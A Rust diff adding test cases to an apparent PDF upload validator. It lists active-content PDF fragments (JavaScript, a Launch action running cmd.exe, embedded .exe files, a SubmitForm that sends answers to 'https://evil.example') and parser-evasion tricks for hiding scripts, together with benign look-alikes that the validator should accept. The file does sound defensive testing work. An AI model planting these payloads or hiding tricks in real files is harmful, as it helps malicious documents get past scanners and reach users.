@@ -13,7 +13,7 @@ use crate::{
 const ACTIVE: &str = "file_active_content";
 
 /// What is active, as the inside of a dictionary.
-const DOES: [(&str, &str); 20] = [
+const DOES: [(&str, &str); 32] = [
     ("a script", "/S/JavaScript/JS(app.alert(1))"),
     ("a script in a stream", "/S/JavaScript/JS 9 0 R"),
     ("a script in hexadecimal", "/S/JavaScript/JS<6170702e616c657274283129>"),
@@ -32,6 +32,18 @@ const DOES: [(&str, &str); 20] = [
     ("a program when it is opened", "/OpenAction<</S/Launch/F(cmd.exe)>>"),
     ("a form that is a program", "/AcroForm<</XFA[(template) 9 0 R]>>"),
     ("a film", "/Subtype/RichMedia/RichMediaContent 9 0 R"),
+    ("a film of the old kind", "/Subtype/Movie/Movie<</F(a.avi)>>"),
+    ("a film that begins", "/S/Movie/T(a)"),
+    ("a film by a player", "/S/Rendition/R 9 0 R/OP 0"),
+    ("a sound", "/Subtype/Sound/Sound 9 0 R"),
+    ("a sound that begins", "/S/Sound/Sound 9 0 R"),
+    ("a model", "/Subtype/3D/3DD 9 0 R"),
+    ("answers that are sent", "/S/SubmitForm/F(https://evil.example)"),
+    ("answers that are fetched", "/S/ImportData/F(a.fdf)"),
+    ("a file inside that is opened", "/S/GoToE/T<</R/C/N(a)>>"),
+    ("a file at a place", "/Subtype/FileAttachment/FS<</F(a.exe)>>"),
+    ("a file by its content", "/F(a.exe)/EF<</F 9 0 R>>"),
+    ("a file by its content elsewhere", "/F(a.exe)/EF 9 0 R"),
     ("files inside", "/Names<</EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>"),
     ("a file inside", "/Type/EmbeddedFile/Params<</Size 1>>"),
 ];
@@ -48,8 +60,66 @@ const HARMLESS: [(&str, &str); 8] = [
     ("a font", "/BaseFont/Launch/Encoding/WinAnsiEncoding"),
 ];
 
+/// Where an index finds a script that whoever reads from the front may take for something else.
+const HIDDEN: [(&str, &str); 12] = [
+    ("behind a text", "7 0 obj[(%)<</S/JavaScript/JS(app.alert(1))>>]endobj"),
+    ("behind a text with brackets", "7 0 obj[(\\()<</S/JavaScript/JS(x)>>]endobj"),
+    ("in a text", "6 0 obj(7 0 obj<</S/JavaScript/JS(x)>>endobj)endobj"),
+    ("in a title", "6 0 obj<</Title(7 0 obj<</S/JavaScript/JS(x)>>endobj)>>endobj"),
+    ("in a text without end", "6 0 obj(\n7 0 obj<</S/JavaScript/JS<41>>>endobj"),
+    ("in a comment", "%7 0 obj<</S/JavaScript/JS(x)>>endobj"),
+    (
+        "with a comment in a stream",
+        "6 0 obj<<>>stream\n7 0 obj%\n<</S/JavaScript/JS(x)>>endobj\nendstream endobj",
+    ),
+    (
+        "with comments in a stream",
+        "6 0 obj<<>>stream\n7%x\n0%y\nobj<</S/JavaScript/JS(x)>>endobj\nendstream endobj",
+    ),
+    (
+        "in a list in a stream",
+        "6 0 obj<<>>stream\n7 0 obj[<</S/JavaScript/JS(x)>>]endobj\nendstream endobj",
+    ),
+    ("at the end of a stream", "6 0 obj<<>>stream\n7 0 obj\nendstream\n<</S/URI>>endobj"),
+    (
+        "behind packed objects",
+        "6 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nx 7 0 obj<</S/JavaScript>>endobj\n\
+         endstream endobj",
+    ),
+    ("by a name elsewhere", "7 0 obj<</S 9 0 R/F(cmd.exe)>>endobj 9 0 obj/Launch endobj"),
+];
+
+/// Objects that look like something else, as programs write them.
+const HONEST: [(&str, &str); 7] = [
+    ("a palette", "7 0 obj [/Indexed/DeviceRGB 2(<HP%)<!-)] endobj"),
+    ("a palette with brackets", "7 0 obj [/Indexed/DeviceRGB 2(\\(\\)\\\\<a<<%\\()] endobj"),
+    ("a title of its own", "7 0 obj (Đơn của <Họ tên> <!-- a -->) endobj"),
+    ("names of letters", "7 0 obj[0/3C/3D/3E/EF 65/Sound2]endobj"),
+    (
+        "packed objects without parameters",
+        "7 0 obj<</Type/ObjStm/DecodeParms[null]>>stream\n8 0 1\nendstream endobj",
+    ),
+    (
+        "packed objects with parameters of nothing",
+        "7 0 obj<</Type/ObjStm/DecodeParms<</Predictor 1/Columns 4>>>>stream\n8 0 1\nendstream endobj",
+    ),
+    (
+        "words of the format in a stream",
+        "7 0 obj<<>>stream\n(an object, 0 obj) Tj\nendstream endobj",
+    ),
+];
+
 pub fn cases() -> Vec<Case> {
     let mut cases = Vec::new();
+    for (place, objects) in HIDDEN {
+        let bytes = pdf_with(objects);
+        cases.push(Case::refused(format!("a script {place}"), "đơn.pdf", bytes, ACTIVE));
+    }
+    for (what, object) in HONEST {
+        let verdict = Verdict::Taken(MediaType::Pdf, "đơn.pdf".to_owned());
+        let (what, name) = (format!("{what}, in a PDF"), "đơn.pdf".to_owned());
+        cases.push(Case { what, name, bytes: pdf_with(object), verdict });
+    }
     for (what, inside) in DOES {
         let object = format!("7 0 obj<<{inside}>>endobj");
         let spread = inside.replace('/', "\n/").replace("<<", "<<%(\n");
